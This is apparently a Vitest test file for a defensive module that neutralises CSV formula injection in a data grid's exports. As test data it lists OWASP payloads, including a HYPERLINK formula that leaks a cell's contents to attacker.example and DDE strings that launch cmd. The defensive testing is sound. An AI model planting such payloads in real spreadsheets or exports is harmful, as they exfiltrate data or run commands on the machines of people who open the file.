import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { exportCellText, neutraliseCsvCell, safeCsvExportParams } from "./formula-injection";

// The attack payloads and the trigger characters are those of OWASP's "CSV Injection" page
// (https://owasp.org/www-community/attacks/CSV_Injection): cells beginning with = + - @, tab (0x09)
// or carriage return (0x0D) must be prefixed with a single quote.
const OWASP_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
];

describe("CSV formula injection (a typed value run as a spreadsheet formula when the export is opened)", () => {
  it("prefixes every OWASP payload with a single quote, so the spreadsheet shows it as text", () => {
    for (const p of PAYLOADS) expect(neutraliseCsvCell(p)).toBe(`'${p}`);
  });

  it("changes a cell exactly when its first character is a trigger (brute force over every ASCII first character)", () => {
    for (let c = 0; c < 128; c++) {
      const cell = `${String.fromCharCode(c)}x1`;
      const expected = OWASP_TRIGGERS.includes(String.fromCharCode(c)) ? `'${cell}` : cell;
      expect(neutraliseCsvCell(cell), `first char ${c}`).toBe(expected);
    }
  });

  it("leaves plain numbers (negative ones included) and ordinary text alone, and is idempotent", () => {
    for (const n of ["-3", "-0.25", "-1e-4", "0.931", "12", ""]) expect(neutraliseCsvCell(n)).toBe(n);
    expect(neutraliseCsvCell("-1+1")).toBe("'-1+1");
    expect(neutraliseCsvCell("-")).toBe("'-");
    expect(neutraliseCsvCell("Continue as planned")).toBe("Continue as planned");
    for (const p of PAYLOADS) expect(neutraliseCsvCell(neutraliseCsvCell(p))).toBe(`'${p}`);
  });

  it("after CSV quoting, a reader (papaparse, npm) gets back the quoted-as-text cell with its commas and quotes intact", () => {
    const cell = neutraliseCsvCell('=HYPERLINK("http://attacker.example","x"),=1');
    // AG Grid's CSV writer: every cell in double quotes, embedded quotes doubled.
    const line = ["look 2", cell].map((c) => `"${c.replace(/"/g, '""')}"`).join(",");
    const parsed = Papa.parse<string[]>(line).data[0];
    expect(parsed).toEqual(["look 2", `'=HYPERLINK("http://attacker.example","x"),=1`]);
  });

  it("the grid's export callbacks neutralise the shown (formatted) cell and the header", () => {
    const params = safeCsvExportParams("audit.csv");
    expect(params.fileName).toBe("audit.csv");
    expect(params.processCellCallback({ value: "=1+1" })).toBe("'=1+1");
    expect(params.processCellCallback({ value: 5, formatValue: () => "@5" })).toBe("'@5");
    expect(params.processCellCallback({ value: -0.5 })).toBe("-0.5");
    expect(exportCellText({ value: null })).toBe("");
    const header = params.processHeaderCallback({ column: {}, api: { getDisplayNameForColumn: () => "=Arm" } });
    expect(header).toBe("'=Arm");
  });
});
